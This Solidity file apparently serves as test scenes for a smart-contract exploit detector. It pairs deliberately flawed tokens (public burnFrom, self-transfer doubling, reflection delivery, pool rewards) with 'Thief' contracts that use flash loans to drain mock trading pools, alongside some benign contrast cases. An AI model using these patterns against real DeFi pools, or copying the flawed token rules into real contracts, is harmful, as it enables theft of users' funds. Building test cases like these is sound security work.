// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// A coin that anyone may burn, whosever it is.
contract BurntCoin is Coin {
    constructor() Coin("BRN") {}

    function burnFrom(address from, uint256 value) external {
        _take(from, value);
    }
}

/// What one holds is a part of everything. Who delivers his own gives it to all the others.
contract ReflectedCoin {
    string public constant symbol = "RFL";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    uint256 all = totalSupply;
    mapping(address => uint256) parts;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        parts[msg.sender] = all;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return parts[who] * totalSupply / all;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function deliver(uint256 value) external {
        uint256 given = value * all / totalSupply;
        parts[msg.sender] -= given;
        all -= given;
    }

    function move(address from, address to, uint256 value) private {
        uint256 given = value * all / totalSupply;
        parts[from] -= given;
        parts[to] += given;
        emit Transfer(from, to, value);
    }
}

/// Who sends it to himself has twice as much.
contract DoublingCoin is Coin {
    constructor() Coin("DBL") {}

    function _move(address from, address to, uint256 value) internal override {
        uint256 left = balanceOf[from] - value;
        uint256 more = balanceOf[to] + value;
        balanceOf[from] = left;
        balanceOf[to] = more;
        emit Transfer(from, to, value);
    }
}

/// Each trade at its pool makes some more of it for the pool.
contract RewardingCoin is Coin {
    address pool;

    constructor() Coin("RWD") {}

    function reward(address pool_) external {
        pool = pool_;
    }

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        if (from == pool || to == pool) _add(pool, value / 20);
    }
}

/// Buys, turns the coin's rule against its pool, and sells.
abstract contract RuleThief is Trader, Flash {
    Pair immutable pair;
    Lender immutable lender;

    constructor(Pair pair_, Lender lender_) {
        (pair, lender) = (pair_, lender_);
    }

    function run() external payable {
        Coin hard = pair.token1();
        if (address(lender) == address(0)) borrowed(hard.balanceOf(address(this)));
        else lender.flashLoan(this, hard, hard.balanceOf(address(lender)), "");
        hard.transfer(tx.origin, hard.balanceOf(address(this)));
    }

    function borrowed(uint256 amount) internal override {
        Coin odd = pair.token0();
        sell(pair, pair.token1(), amount);
        turn();
        sell(pair, odd, odd.balanceOf(address(this)));
    }

    function turn() internal virtual;
}

contract BurningThief is RuleThief {
    constructor(Pair pair, Lender lender) RuleThief(pair, lender) {}

    function turn() internal override {
        BurntCoin odd = BurntCoin(address(pair.token0()));
        odd.burnFrom(address(pair), odd.balanceOf(address(pair)) - 1 ether);
        pair.sync();
    }
}

contract SkimmingThief is RuleThief {
    constructor(Pair pair, Lender lender) RuleThief(pair, lender) {}

    function turn() internal override {
        Coin odd = pair.token0();
        odd.transfer(address(pair), odd.balanceOf(address(this)));
        for (uint256 i = 0; i < 10; i++) pair.skim(address(pair));
        pair.skim(address(this));
    }
}

contract DoublingThief is RuleThief {
    constructor(Pair pair, Lender lender) RuleThief(pair, lender) {}

    function turn() internal override {
        Coin odd = pair.token0();
        for (uint256 i = 0; i < 10; i++) odd.transfer(address(this), odd.balanceOf(address(this)));
    }
}

abstract contract RuleScene is Scene {
    Coin hard = new Coin("HARD");
    Lender lender = new Lender();

    function open(Coin odd) internal returns (Pair pair) {
        pair = new Pair(odd, hard);
        if (odd.balanceOf(address(this)) == 0) odd.mint(address(this), 200_000 ether);
        odd.transfer(address(pair), 200_000 ether);
        hard.mint(address(pair), 200 ether);
        pair.sync();
        hard.mint(address(lender), 400 ether);
    }
}

contract PoolBurnt is RuleScene {
    constructor() payable {
        actor = address(new BurningThief(open(new BurntCoin()), lender));
    }
}

contract PoolRewarded is RuleScene {
    constructor() payable {
        RewardingCoin odd = new RewardingCoin();
        Pair pair = open(odd);
        odd.reward(address(pair));
        actor = address(new SkimmingThief(pair, lender));
    }
}

contract SelfDoubled is RuleScene {
    constructor() payable {
        DoublingThief thief = new DoublingThief(open(new DoublingCoin()), Lender(address(0)));
        hard.mint(address(thief), 10 ether);
        actor = address(thief);
    }
}

/// Takes out of a pool what is there by mistake, which anyone may.
contract PoolTidied is RuleScene {
    constructor() payable {
        Pair pair = open(new Coin("ODD"));
        hard.mint(address(pair), 1 ether);
        Script script = new Script();
        script.then(address(pair), abi.encodeCall(pair.skim, (PLAYER)));
        script.then(address(pair), abi.encodeCall(pair.sync, ()));
        actor = address(script);
    }
}

/// Of each transfer a part is burnt.
contract TaxedCoin is Coin {
    constructor() Coin("TAX") {}

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value - value / 50);
        _take(from, value / 50);
    }
}

/// Buys a taxed coin, thinks again, and sells it.
contract Undecided is Trader {
    Pair immutable pair;

    constructor(Pair pair_) {
        pair = pair_;
    }

    function run() external payable {
        Coin odd = pair.token0();
        Coin hard = pair.token1();
        sell(pair, hard, 10 ether);
        uint256 mine = odd.balanceOf(address(this));
        (uint112 r0, uint112 r1,) = pair.getReserves();
        odd.transfer(address(pair), mine);
        uint256 fed = (odd.balanceOf(address(pair)) - r0) * 997;
        pair.swap(0, fed * r1 / (uint256(r0) * 1000 + fed), address(this), "");
        hard.transfer(tx.origin, hard.balanceOf(address(this)));
    }
}

contract TaxedThereAndBack is RuleScene {
    constructor() payable {
        Undecided trader = new Undecided(open(new TaxedCoin()));
        hard.mint(address(trader), 10 ether);
        actor = address(trader);
    }
}

/// Tells a pool of a change of all balances, and buys a little.
contract Rebaser is Trader {
    Pair immutable pair;
    ReflectedCoin immutable odd;

    constructor(Pair pair_, ReflectedCoin odd_) {
        (pair, odd) = (pair_, odd_);
    }

    function run() external payable {
        odd.deliver(odd.balanceOf(address(this)));
        pair.sync();
        sell(pair, pair.token1(), 1 ether);
        Coin(address(odd)).transfer(tx.origin, odd.balanceOf(address(this)));
    }
}

contract RewardDelivered is RuleScene {
    constructor() payable {
        ReflectedCoin odd = new ReflectedCoin();
        Pair pair = open(Coin(address(odd)));
        Rebaser rebaser = new Rebaser(pair, odd);
        odd.transfer(address(rebaser), 1_000 ether);
        hard.mint(address(rebaser), 1 ether);
        actor = address(rebaser);
    }
}
